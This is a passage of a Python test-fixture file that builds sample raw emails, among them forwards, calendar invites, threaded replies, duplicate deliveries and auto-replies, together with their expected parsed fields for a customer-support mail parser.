User-Agent: Mozilla Thunderbird
Content-Language: en-GB
To: support@desk.example
From: James Whitfield <james.whitfield@example.co.uk>
Subject: Fwd: Your parcel NX-UK-55120931 was delivered

This is a multi-part message in MIME format.
--------------aB3dE5fG7hJ9kL1mN3pQ5rS7
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Hello,

The tracking says my order was delivered "behind the bin" but there is
nothing there and I don't even have a bin. Forwarding the notification.

James

--------------aB3dE5fG7hJ9kL1mN3pQ5rS7
Content-Type: message/rfc822; name="Your parcel NX-UK-55120931 was delivered.eml"
Content-Disposition: attachment;
 filename="Your parcel NX-UK-55120931 was delivered.eml"

{FWD_20_INNER}
--------------aB3dE5fG7hJ9kL1mN3pQ5rS7--
""",
    message_id="<2b4d6f80-a1c3-4e5f-8a9b-c1d2e3f4a5b6@example.co.uk>",
    from_address="james.whitfield@example.co.uk",
    from_name="James Whitfield",
    to=["support@desk.example"],
    subject="Fwd: Your parcel NX-UK-55120931 was delivered",
    text_contains=["I don't even have a bin", "Forwarding the notification"],
    text_excludes=["left in a safe place"],
    attachments=[
        att(
            "Your parcel NX-UK-55120931 was delivered.eml",
            "message/rfc822",
            textsize(FWD_20_INNER),
        )
    ],
    language="en",
    note="Thunderbird 'forward as attachment': a message/rfc822 part; its size is the attached message's bytes as stored, and its text is not the mail's text.",
)

TB_21_TEXT = """Bonjour,

Je vous transfère la confirmation de commande : l'adresse de livraison est
fausse (j'ai déménagé), merci de la corriger avant l'expédition.

Pascal Girard


-------- Message transféré --------
Sujet : 	Confirmation de votre commande FR-2026-120877
Date : 	Sun, 8 Nov 2026 20:31:05 +0100
De : 	Boutique Novalux <commandes@desk.example>
Pour : 	pascal.girard@wanadoo.example



Bonjour Pascal,

Merci pour votre commande FR-2026-120877 (robot pâtissier KM-9, 329,00 €).
Livraison prévue à : 8, allée des Érables, 44000 Nantes.
"""
add(
    "thunderbird-fr-forward-inline",
    f"""Return-Path: <pascal.girard@wanadoo.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Mon, 09 Nov 2026 11:02:10 +0100")}Message-ID: <7e6d5c4b-3a29-4187-b6a5-f4e3d2c1b0a9@wanadoo.example>
Date: Mon, 9 Nov 2026 11:02:06 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: =?UTF-8?Q?Fwd=3A_Confirmation_de_votre_commande_FR-2026-120877?=
Content-Language: fr
References: <order-FR-2026-120877@desk.example>
To: sav@desk.example
From: Pascal Girard <pascal.girard@wanadoo.example>
In-Reply-To: <order-FR-2026-120877@desk.example>
X-Forwarded-Message-Id: <order-FR-2026-120877@desk.example>
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

{TB_21_TEXT}""",
    message_id="<7e6d5c4b-3a29-4187-b6a5-f4e3d2c1b0a9@wanadoo.example>",
    in_reply_to="<order-FR-2026-120877@desk.example>",
    references=["<order-FR-2026-120877@desk.example>"],
    from_address="pascal.girard@wanadoo.example",
    from_name="Pascal Girard",
    to=["sav@desk.example"],
    subject="Fwd: Confirmation de votre commande FR-2026-120877",
    text_contains=[
        "-------- Message transféré --------",
        "allée des Érables",
        "l'adresse de livraison",
    ],
    language="fr",
    note="Thunderbird inline forward ('-------- Message transféré --------' with Sujet/Date/De/Pour and tabs); In-Reply-To and References point at our order confirmation, which is not a case id.",
)

GMAIL_22_TEXT = """Buongiorno, vi inoltro la risposta del centro assistenza di Bologna: dicono
che il ricambio non è disponibile. Cosa devo fare?

Alessandro

---------- Forwarded message ---------
Da: Centro Assistenza Bologna <cat.bologna@riparazioni.example>
Date: ven 6 nov 2026 alle ore 17:45
Subject: Pratica 7741 - asciugatrice DR-7
To: Alessandro Greco <alessandro.greco@gmail.example>


Gentile sig. Greco,
la scheda elettronica dell'asciugatrice DR-7 non è più disponibile presso il
fornitore. Le consigliamo di contattare direttamente il produttore.

Cordiali saluti
Centro Assistenza Bologna
"""
GMAIL_22_HTML = """<div dir="ltr">Buongiorno, vi inoltro la risposta del centro assistenza di Bologna: dicono che il ricambio non è disponibile. Cosa devo fare?<div><br></div><div>Alessandro<br><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">---------- Forwarded message ---------<br>Da: <strong class="gmail_sendername" dir="auto">Centro Assistenza Bologna</strong> <span dir="auto">&lt;<a href="mailto:cat.bologna@riparazioni.example">cat.bologna@riparazioni.example</a>&gt;</span><br>Date: ven 6 nov 2026 alle ore 17:45<br>Subject: Pratica 7741 - asciugatrice DR-7<br>To: Alessandro Greco &lt;<a href="mailto:alessandro.greco@gmail.example">alessandro.greco@gmail.example</a>&gt;<br></div><br><br>Gentile sig. Greco,<br>la scheda elettronica dell&#39;asciugatrice DR-7 non è più disponibile presso il fornitore. Le consigliamo di contattare direttamente il produttore.<br><br>Cordiali saluti<br>Centro Assistenza Bologna</div></div></div>
"""
add(
    "gmail-it-forward-inline",
    f"""Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Mon, 09 Nov 2026 12:30:44 +0100")}MIME-Version: 1.0
References: <CAP3rT9x0Yk5wA7bC9dE1fG3hI5jK7lM9nO1pQ3rS5tU7vW@mail.riparazioni.example>
In-Reply-To: <CAP3rT9x0Yk5wA7bC9dE1fG3hI5jK7lM9nO1pQ3rS5tU7vW@mail.riparazioni.example>
From: Alessandro Greco <alessandro.greco@gmail.example>
Date: Mon, 9 Nov 2026 12:30:19 +0100
Message-ID: <CAH5sU1y2Zl7xB9cD1eF3gH5iJ7kL9mN1oP3qR5sT7uV9wX@mail.gmail.example>
Subject: Fwd: Pratica 7741 - asciugatrice DR-7
To: assistenza@desk.example
Content-Type: multipart/alternative; boundary="00000000000045ab67061f6c8d9e"

--00000000000045ab67061f6c8d9e
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_22_TEXT)}
--00000000000045ab67061f6c8d9e
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_22_HTML)}
--00000000000045ab67061f6c8d9e--
""",
    message_id="<CAH5sU1y2Zl7xB9cD1eF3gH5iJ7kL9mN1oP3qR5sT7uV9wX@mail.gmail.example>",
    in_reply_to="<CAP3rT9x0Yk5wA7bC9dE1fG3hI5jK7lM9nO1pQ3rS5tU7vW@mail.riparazioni.example>",
    references=["<CAP3rT9x0Yk5wA7bC9dE1fG3hI5jK7lM9nO1pQ3rS5tU7vW@mail.riparazioni.example>"],
    from_address="alessandro.greco@gmail.example",
    from_name="Alessandro Greco",
    to=["assistenza@desk.example"],
    subject="Fwd: Pratica 7741 - asciugatrice DR-7",
    text_contains=[
        "il ricambio non è disponibile",
        "---------- Forwarded message ---------",
        "non è più disponibile",
    ],
    language="it",
    note="Gmail (Italian UI) inline forward: Gmail keeps the English '---------- Forwarded message ---------' line with 'Da:'; In-Reply-To points at a third party's message, not at ours.",
)

CAL_23_ICS = """BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20261112T140000Z
DTEND:20261112T143000Z
DTSTAMP:20261109T151203Z
ORGANIZER;CN=Priya Shah:mailto:priya.shah@example.com
UID:4k2j1h0g9f8e7d6c5b4a3z2y1x@google.example
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
 TRUE;CN=support@desk.example;X-NUM-GUESTS=0:mailto:support@desk.example
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE
 ;CN=Priya Shah;X-NUM-GUESTS=0:mailto:priya.shah@example.com
CREATED:20261109T151202Z
DESCRIPTION:Call about the 40 faulty monitors in our Leeds office.
LAST-MODIFIED:20261109T151202Z
LOCATION:https://meet.example.com/abc-defg-hij
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:Novalux monitors - bulk repair call
TRANSP:OPAQUE
END:VEVENT
END:VCALENDAR"""
CAL_23_TEXT = """Novalux monitors - bulk repair call
Thursday 12 Nov 2026 ⋅ 14:00 – 14:30 (Greenwich Mean Time)
Join: https://meet.example.com/abc-defg-hij

Call about the 40 faulty monitors in our Leeds office.

Organiser
Priya Shah
priya.shah@example.com

Invitation from Google Calendar
"""
CAL_23_HTML = """<div style=""><table cellspacing="0" cellpadding="0" style="width:100%"><tr><td><h2>Novalux monitors - bulk repair call</h2><p>Thursday 12 Nov 2026 ⋅ 14:00 – 14:30 (Greenwich Mean Time)</p><p>Call about the 40 faulty monitors in our Leeds office.</p><p>Organiser: Priya Shah</p></td></tr></table><span itemscope itemtype="http://schema.org/InformAction"><span itemprop="object" itemscope itemtype="http://schema.org/Event"><meta itemprop="eventStatus" content="http://schema.org/EventScheduled"></span></span></div>
"""
add(
    "google-calendar-en-invite",
    f"""Delivered-To: support@desk.example
{received("support@desk.example", "Mon, 9 Nov 2026 15:12:05 +0000")}MIME-Version: 1.0
From: Priya Shah <priya.shah@example.com>
Date: Mon, 09 Nov 2026 15:12:03 +0000
Message-ID: <calendar-5b1f2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d@google.example>
Subject: Invitation: Novalux monitors - bulk repair call @ Thu 12 Nov 2026 14:00 - 14:30 (GMT) (support@desk.example)
To: support@desk.example
Reply-To: priya.shah@example.com
Sender: Google Calendar <calendar-notification@google.example>
Auto-Submitted: no
Content-Type: multipart/mixed; boundary="000000000000d2e3f4061f6e0a1b"

--000000000000d2e3f4061f6e0a1b
Content-Type: multipart/alternative; boundary="000000000000d2e3f3061f6e0a19"

--000000000000d2e3f3061f6e0a19
Content-Type: text/plain; charset="UTF-8"; format=flowed; delsp=yes
Content-Transfer-Encoding: base64

{b64(CAL_23_TEXT.encode())}
--000000000000d2e3f3061f6e0a19
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(CAL_23_HTML)}
--000000000000d2e3f3061f6e0a19
Content-Type: text/calendar; charset="UTF-8"; method=REQUEST
Content-Transfer-Encoding: 7bit

{CAL_23_ICS}
--000000000000d2e3f3061f6e0a19--
--000000000000d2e3f4061f6e0a1b
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: base64

{b64(CAL_23_ICS.replace(chr(10), chr(13) + chr(10)).encode())}
--000000000000d2e3f4061f6e0a1b--
""",
    message_id="<calendar-5b1f2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d@google.example>",
    from_address="priya.shah@example.com",
    from_name="Priya Shah",
    to=["support@desk.example"],
    subject="Invitation: Novalux monitors - bulk repair call @ Thu 12 Nov 2026 14:00 - 14:30 (GMT) (support@desk.example)",
    text_contains=["Novalux monitors - bulk repair call", "14:00 – 14:30", "40 faulty monitors"],
    text_excludes=["BEGIN:VCALENDAR"],
    attachments=[
        att(None, "text/calendar", textsize(CAL_23_ICS)),
        att("invite.ics", "application/ics", len(CAL_23_ICS) + CAL_23_ICS.count("\n")),
    ],
    language="en",
    note="Google Calendar invitation: mixed > alternative (plain, HTML, text/calendar method=REQUEST) plus invite.ics; Auto-Submitted: no is not an auto-reply.",
)


# --- 24-32: replies, threading links, missing and duplicate Message-IDs ------------------------

GMAIL_24_TEXT = """Bonjour,

Merci pour votre réponse. J'ai bien fait la réinitialisation d'usine, mais
l'écran clignote toujours dès qu'on passe sur HDMI 2.
Je peux déposer le téléviseur au point relais mercredi.

Céline

Le lun. 2 nov. 2026 à 10:14, Service client Novalux <sav@desk.example> a
écrit :

> Bonjour Madame Mercier,
>
> Pouvez-vous faire une réinitialisation d'usine (Paramètres > Général >
> Réinitialiser) et nous dire si le problème persiste ?
>
> Bien cordialement,
> Julien, service client Novalux
>
"""
GMAIL_24_HTML = """<div dir="ltr"><div>Bonjour,</div><div><br></div><div>Merci pour votre réponse. J&#39;ai bien fait la réinitialisation d&#39;usine, mais l&#39;écran clignote toujours dès qu&#39;on passe sur HDMI 2.</div><div>Je peux déposer le téléviseur au point relais mercredi.</div><div><br></div><div>Céline</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">Le lun. 2 nov. 2026 à 10:14, Service client Novalux &lt;<a href="mailto:sav@desk.example">sav@desk.example</a>&gt; a écrit&nbsp;:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Bonjour Madame Mercier,<br><br>Pouvez-vous faire une réinitialisation d&#39;usine (Paramètres &gt; Général &gt; Réinitialiser) et nous dire si le problème persiste ?<br><br>Bien cordialement,<br>Julien, service client Novalux<br></blockquote></div>
"""
add(
    "gmail-fr-reply-threaded",
    f"""Delivered-To: sav@desk.example
{received("sav@desk.example", "Tue, 03 Nov 2026 08:40:02 +0100")}MIME-Version: 1.0
References: <case-1234.1@desk.example> <case-1234.5@desk.example>
In-Reply-To: <case-1234.5@desk.example>
From: =?UTF-8?Q?C=C3=A9line_Mercier?= <celine.mercier@gmail.example>
Date: Tue, 3 Nov 2026 08:39:40 +0100
Message-ID: <CAJx7pQ0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2yZ3a@mail.gmail.example>
Subject: =?UTF-8?Q?Re=3A_T=C3=A9l=C3=A9viseur_qui_s=27=C3=A9teint_tout_seul_=5B=231234=5D?=
To: Service client Novalux <sav@desk.example>
Content-Type: multipart/alternative; boundary="000000000000f1e2d3061f4f5a6b"

--000000000000f1e2d3061f4f5a6b
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_24_TEXT)}
--000000000000f1e2d3061f4f5a6b
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_24_HTML)}
--000000000000f1e2d3061f4f5a6b--
""",
    message_id="<CAJx7pQ0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2yZ3a@mail.gmail.example>",
    in_reply_to="<case-1234.5@desk.example>",
    references=["<case-1234.1@desk.example>", "<case-1234.5@desk.example>"],
    from_address="celine.mercier@gmail.example",
    from_name="Céline Mercier",
    to=["sav@desk.example"],
    subject="Re: Téléviseur qui s'éteint tout seul [#1234]",
    case_reference=1234,
    text_contains=[
        "l'écran clignote toujours",
        "Le lun. 2 nov. 2026 à 10:14",
        "> Pouvez-vous faire",
    ],
    language="fr",
    note="Gmail reply to our case mail: In-Reply-To and References name our <case-1234.N@desk.example> ids, the quoted history starts with 'Le lun. 2 nov. 2026 à 10:14, ... a écrit :' (folded) and '> ' lines.",
)

OUTLOOK_25_TEXT = """Bonjour,

Le colis de retour est parti ce matin, numéro de suivi 6A12345678901.
Merci de me tenir informé.

Cordialement,
Thierry Lambert

De : Service client Novalux <sav@desk.example>
Envoyé : mercredi 4 novembre 2026 15:30
À : Thierry Lambert <thierry.lambert@outlook.example>
Objet : Re: Aspirateur V12 : batterie défectueuse [#2001]

Bonjour Monsieur Lambert,

Vous trouverez ci-joint l'étiquette de retour prépayée.
"""
add(
    "outlook-fr-reply-rewritten-in-reply-to",
    f"""Received: from DB9PR10MB6543.EURPRD10.PROD.OUTLOOK.EXAMPLE ([fe80::aa11:bb22:cc33:dd44])
 by DB9PR10MB6543.EURPRD10.PROD.OUTLOOK.EXAMPLE with mapi id 15.20.8158.012;
 Thu, 5 Nov 2026 09:12:44 +0000
From: Thierry Lambert <thierry.lambert@outlook.example>
To: Service client Novalux <sav@desk.example>
Subject: =?iso-8859-1?Q?RE:_Aspirateur_V12_:_batterie_d=E9fectueuse_[#2001]?=
Thread-Topic: =?iso-8859-1?Q?Aspirateur_V12_:_batterie_d=E9fectueuse_[#2001]?=
Thread-Index: AQHbTmL6mKx9p1QyH0a3b4c5d6e7f8g9h0iA
Date: Thu, 5 Nov 2026 09:12:44 +0000
Message-ID: <DB9PR10MB65432F1E0D9C8B7A6F5E4D3C2B1A@DB9PR10MB6543.EURPRD10.PROD.OUTLOOK.EXAMPLE>
References: <case-2001.1@desk.example> <case-2001.3@desk.example>
 <DB9PR10MB6543AA00BB11CC22DD33EE44FF55@DB9PR10MB6543.EURPRD10.PROD.OUTLOOK.EXAMPLE>
In-Reply-To: <DB9PR10MB6543AA00BB11CC22DD33EE44FF55@DB9PR10MB6543.EURPRD10.PROD.OUTLOOK.EXAMPLE>
Accept-Language: fr-FR, en-US
Content-Language: fr-FR
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-exchange-messagesentrepresentingtype: 1
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp(OUTLOOK_25_TEXT, "iso-8859-1")}""",
    message_id="<DB9PR10MB65432F1E0D9C8B7A6F5E4D3C2B1A@DB9PR10MB6543.EURPRD10.PROD.OUTLOOK.EXAMPLE>",
    in_reply_to="<DB9PR10MB6543AA00BB11CC22DD33EE44FF55@DB9PR10MB6543.EURPRD10.PROD.OUTLOOK.EXAMPLE>",
    references=[
        "<case-2001.1@desk.example>",
        "<case-2001.3@desk.example>",
        "<DB9PR10MB6543AA00BB11CC22DD33EE44FF55@DB9PR10MB6543.EURPRD10.PROD.OUTLOOK.EXAMPLE>",
    ],
    from_address="thierry.lambert@outlook.example",
    from_name="Thierry Lambert",
    to=["sav@desk.example"],
    subject="RE: Aspirateur V12 : batterie défectueuse [#2001]",
    case_reference=2001,
    text_contains=[
        "Le colis de retour est parti",
        "Envoyé : mercredi 4 novembre 2026 15:30",
        "l'étiquette de retour prépayée",
    ],
    language="fr",
    note="Outlook reply whose In-Reply-To was rewritten to an Outlook id of its own; only References (folded) still carries our case ids; French 'De : / Envoyé : / À : / Objet :' block, 'RE:' prefix.",
)

LIBERO_26_TEXT = """Buongiorno,
sì, la lavatrice è ancora in garanzia: l'ho comprata il 15 febbraio 2025.
Vi allego di nuovo il numero di serie: WM8-IT-0045123.

Saluti
Roberta Conti

Il giorno lun 2 nov 2026 alle ore 10:14 Assistenza Novalux <assistenza@desk.example> ha scritto:
> Gentile cliente,
> può confermarci la data d'acquisto della lavatrice?
> Grazie,
> l'assistenza Novalux
"""
add(
    "libero-it-reply-subject-tag-only",
    f"""Return-Path: <roberta.conti@libero.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Tue, 03 Nov 2026 09:21:40 +0100")}Message-ID: <c0ffee12.4a5b.4c6d.8e9f.0a1b2c3d4e5f@libero.example>
Date: Tue, 3 Nov 2026 09:21:37 +0100 (CET)
From: "roberta.conti@libero.example" <roberta.conti@libero.example>
To: <assistenza@desk.example>
Subject: R: Riparazione lavatrice [#3107]
MIME-Version: 1.0
Content-Type: text/plain;charset="UTF-8"
Content-Transfer-Encoding: quoted-printable
X-Mailer: Libero Mail

{qp(LIBERO_26_TEXT)}""",
    message_id="<c0ffee12.4a5b.4c6d.8e9f.0a1b2c3d4e5f@libero.example>",
    from_address="roberta.conti@libero.example",
    from_name="roberta.conti@libero.example",
    to=["assistenza@desk.example"],
    subject="R: Riparazione lavatrice [#3107]",
    case_reference=3107,
    text_contains=[
        "sì, la lavatrice è ancora in garanzia",
        "Il giorno lun 2 nov 2026 alle ore 10:14",
    ],
    language="it",
    note="Libero webmail reply with no In-Reply-To or References: the only link to the case is '[#3107]' in the 'R:' subject; the display name is the address itself.",
)

add(
    "reply-from-cc-en",
    f"""Return-Path: <sarah.bennett@bennett-lettings.example>
Delivered-To: support@desk.example
{received("support@desk.example", "Tue, 10 Nov 2026 09:05:31 +0000")}Date: Tue, 10 Nov 2026 09:05:28 +0000
From: Sarah Bennett <sarah.bennett@bennett-lettings.example>
To: Novalux Support <support@desk.example>
Cc: "Patel, Ravi" <ravi.patel@example.co.uk>
Subject: Re: Dishwasher DW-45 not draining - flat 3 [#4120]
Message-ID: <20261110090528.GA31544@bennett-lettings.example>
References: <case-4120.1@desk.example> <20261109171204.7f3e@example.co.uk>
 <case-4120.2@desk.example>
In-Reply-To: <case-4120.2@desk.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Disposition: inline
User-Agent: Mutt/2.2.13 (2024-03-09)

Hello,

I'm the landlord of the flat (Ravi is my tenant, he opened the case). The
engineer can collect the key from our office any weekday before 5pm.

Best regards,

On Mon, 9 Nov 2026 at 17:40, Novalux Support <support@desk.example> wrote:
> Dear Mr Patel,
>
> We can send an engineer on Thursday 12 November between 8am and 12pm.
> Will someone be at home?
>
> Kind regards,
> Novalux Support

-- 
Sarah Bennett
Bennett Lettings Ltd - 14 Park Row, Leeds LS1 5HD
""",
    message_id="<20261110090528.GA31544@bennett-lettings.example>",
    in_reply_to="<case-4120.2@desk.example>",
    references=[
        "<case-4120.1@desk.example>",
        "<20261109171204.7f3e@example.co.uk>",
        "<case-4120.2@desk.example>",
    ],
    from_address="sarah.bennett@bennett-lettings.example",
    from_name="Sarah Bennett",
    to=["support@desk.example"],
    cc=["ravi.patel@example.co.uk"],
    subject="Re: Dishwasher DW-45 not draining - flat 3 [#4120]",
    case_reference=4120,
    text_contains=[
        "the landlord of the flat",
        "On Mon, 9 Nov 2026 at 17:40",
        "Bennett Lettings Ltd",
    ],
    language="en",
    note="Mutt reply from a person who was in Cc, not the case's customer (who is now in Cc with a quoted 'Last, First' name); '> ' quoting and a '-- ' signature.",
)

FORM_28_TEXT = """Nouveau message depuis le formulaire de contact de novalux.example

Nom : Yasmine Haddad
E-mail : yasmine.haddad@example.fr
Produit : Cafetière filtre CF-20
Numéro de commande : FR-2026-119502

Message :
La verseuse en verre est arrivée fêlée. Est-il possible d'en recevoir une
nouvelle sans renvoyer toute la cafetière ?
"""
add(
    "contact-form-no-message-id",
    f"""Return-Path: <www-data@web1.novalux.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Tue, 10 Nov 2026 13:44:02 +0100")}To: sav@desk.example
Subject: [Formulaire de contact] =?UTF-8?Q?Verseuse_f=C3=AAl=C3=A9e?=
X-PHP-Originating-Script: 33:contact.php
From: Site Novalux <www-data@web1.novalux.example>
Reply-To: Yasmine Haddad <yasmine.haddad@example.fr>
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit
Date: Tue, 10 Nov 2026 13:44:01 +0100

{FORM_28_TEXT}""",
    message_id=None,
    from_address="www-data@web1.novalux.example",
    from_name="Site Novalux",
    to=["sav@desk.example"],
    subject="[Formulaire de contact] Verseuse fêlée",
    text_contains=["La verseuse en verre est arrivée fêlée", "Yasmine Haddad"],
    language="fr",
    note="A website contact form sent by PHP mail(): no Message-ID and no MIME-Version, the customer only in Reply-To; a '[...]' subject prefix that is not a case tag.",
)

DUP_TEXT = """Good afternoon,

My Novalux kettle (KT-17) switches itself off before the water boils. It is
three months old. Could you tell me how to get it replaced?

Thanks,
Emily Clarke
"""


def dup_29(rcpt_date: str, mx: str) -> str:
    return f"""Return-Path: <emily.clarke@example.co.uk>
Delivered-To: support@desk.example
{received("support@desk.example", rcpt_date)}Received: from smtp.example.co.uk (smtp.example.co.uk [198.51.100.80])
\tby {mx}.desk.example (Postfix) with ESMTPS id 4R9{mx}Q1
\tfor <support@desk.example>; {rcpt_date}
Date: Tue, 10 Nov 2026 14:01:12 +0000
From: Emily Clarke <emily.clarke@example.co.uk>
To: support@desk.example
Subject: Kettle KT-17 switches off before boiling
Message-ID: <5f4e3d2c-1b0a-4987-8654-3210fedcba98@example.co.uk>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8; format=flowed
Content-Transfer-Encoding: 7bit
User-Agent: Mozilla Thunderbird

{DUP_TEXT}"""


DUP_29 = {
    "message_id": "<5f4e3d2c-1b0a-4987-8654-3210fedcba98@example.co.uk>",
    "from_address": "emily.clarke@example.co.uk",
    "from_name": "Emily Clarke",
    "to": ["support@desk.example"],
    "subject": "Kettle KT-17 switches off before boiling",
    "text_contains": ["switches itself off before the water boils"],
    "language": "en",
}
add(
    "duplicate-delivery-first",
    dup_29("Tue, 10 Nov 2026 14:01:15 +0000", "mx1"),
    **DUP_29,
    note="First of two deliveries of the same message (the sender's server retried after a timeout): same Message-ID as the next file.",
)
add(
    "duplicate-delivery-second",
    dup_29("Tue, 10 Nov 2026 14:06:19 +0000", "mx2"),
    crlf=False,
    **DUP_29,
    note="Second delivery of the previous file's message, through another MX and stored with LF: same Message-ID, must not open a second case.",
)

TWO_31_TEXT = """Buongiorno,
scrivo ad entrambi gli indirizzi perché non so quale sia quello giusto.
Il condizionatore AC-12 perde acqua in casa quando è acceso in modalità
deumidificatore. Potete aiutarmi?

Grazie
Paola Rinaldi
"""


def two_31(delivered: str) -> str:
    return f"""Return-Path: <paola.rinaldi@alice.example>
Delivered-To: {delivered}
{received(delivered, "Wed, 11 Nov 2026 08:30:12 +0100")}Message-ID: <1731310210.77412@alice.example>
Date: Wed, 11 Nov 2026 08:30:10 +0100
From: Paola Rinaldi <paola.rinaldi@alice.example>
To: assistenza@desk.example, support@desk.example
Subject: Condizionatore AC-12 perde acqua
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
X-Mailer: Alice Mail

{qp(TWO_31_TEXT)}"""


TWO_31 = {
    "message_id": "<1731310210.77412@alice.example>",
    "from_address": "paola.rinaldi@alice.example",
    "from_name": "Paola Rinaldi",
    "to": ["assistenza@desk.example", "support@desk.example"],
    "subject": "Condizionatore AC-12 perde acqua",
    "text_contains": ["scrivo ad entrambi gli indirizzi perché", "quando è acceso"],
    "language": "it",
}
add(
    "two-mailboxes-assistenza",
    two_31("assistenza@desk.example"),
    **TWO_31,
    note="One message sent to two of our mailboxes, copy delivered to assistenza@: same Message-ID as the next file, different Delivered-To.",
)
add(
    "two-mailboxes-support",
    two_31("support@desk.example"),
    **TWO_31,
    note="The same message's copy delivered to support@: one case, not two.",
)


# --- 33-39: automatic replies, and what is not one --------------------------------------------

EXCH_33_TEXT = """Bonjour,

Je suis absente du bureau jusqu’au lundi 16 novembre inclus, sans accès à ma messagerie.
Pour toute urgence, merci de contacter Marc Petit : marc.petit@example.fr.

Cordialement,
Sophie Bernard
"""
add(
    "exchange-ooo-fr-auto-submitted",
    f"""Received: from PR3PR08MB5678.eurprd08.prod.outlook.example ([fe80::5a6b:7c8d:9e0f:1a2b])
 by PR3PR08MB5678.eurprd08.prod.outlook.example with mapi id 15.20.8158.013;
 Wed, 11 Nov 2026 09:00:03 +0000
From: Sophie Bernard <sophie.bernard@example.fr>
To: Service client Novalux <sav@desk.example>
Subject: =?iso-8859-1?Q?R=E9ponse_automatique=A0:_Re:_Four_NX-OV_-_porte_bloqu=E9e_[#?=
 =?iso-8859-1?Q?4305]?=
Thread-Topic: =?iso-8859-1?Q?Four_NX-OV_-_porte_bloqu=E9e_[#4305]?=
Thread-Index: AQHbVLY7wXR6b0KvTU2yDMc8mGLPVQ==
Date: Wed, 11 Nov 2026 09:00:02 +0000
Message-ID: <b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6@PR3PR08MB5678.eurprd08.prod.outlook.example>
In-Reply-To: <case-4305.2@desk.example>
References: <case-4305.2@desk.example>
Auto-Submitted: auto-generated
X-MS-Has-Attach:
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: sophie.bernard@example.fr
X-MS-TNEF-Correlator:
Content-Language: fr-FR
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64(EXCH_33_TEXT.encode())}
""",
    message_id="<b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6@PR3PR08MB5678.eurprd08.prod.outlook.example>",
    in_reply_to="<case-4305.2@desk.example>",
    references=["<case-4305.2@desk.example>"],
    from_address="sophie.bernard@example.fr",
    from_name="Sophie Bernard",
    to=["sav@desk.example"],
    subject="Réponse automatique\u00a0: Re: Four NX-OV - porte bloquée [#4305]",
    case_reference=4305,
    text_contains=["Je suis absente du bureau jusqu’au lundi 16 novembre"],
    auto_reply=True,
    language="fr",
    note="Exchange out-of-office in French: Auto-Submitted: auto-generated (an auto-reply even though it names our case), with a no-break space before ':' in the subject and an encoded-word split inside '[#4305]'.",
)

add(
    "libero-ooo-it-x-autoreply",
    [
        f"""Return-Path: <giorgio.fabbri@libero.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Wed, 11 Nov 2026 10:11:45 +0100")}Date: Wed, 11 Nov 2026 10:11:44 +0100
From: giorgio.fabbri@libero.example
To: assistenza@desk.example
Subject: Risposta automatica: Re: Stato riparazione TV [#3388]
Message-ID: <autoreply.1731316304.4821@libero.example>
In-Reply-To: <case-3388.4@desk.example>
X-Autoreply: yes
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: 8bit

""",
        "Sono in ferie fino al 20 novembre. Risponderò al mio rientro.\nGiorgio Fabbri\n".encode(
            "iso-8859-1"
        ),
    ],
    message_id="<autoreply.1731316304.4821@libero.example>",
    in_reply_to="<case-3388.4@desk.example>",
    from_address="giorgio.fabbri@libero.example",
    to=["assistenza@desk.example"],
    subject="Risposta automatica: Re: Stato riparazione TV [#3388]",
    case_reference=3388,
    text_contains=["Risponderò al mio rientro"],
    auto_reply=True,
    language="it",
    note="Libero vacation reply marked only by X-Autoreply: yes; bare address in From (empty display name); ISO-8859-1 8bit body.",
)

add(
    "ooo-en-x-autorespond",
    f"""Return-Path: <d.okafor@example.com>
Delivered-To: support@desk.example
{received("support@desk.example", "Wed, 11 Nov 2026 11:30:09 +0000")}Date: Wed, 11 Nov 2026 11:30:08 +0000
From: Daniel Okafor <d.okafor@example.com>
To: Novalux Support <support@desk.example>
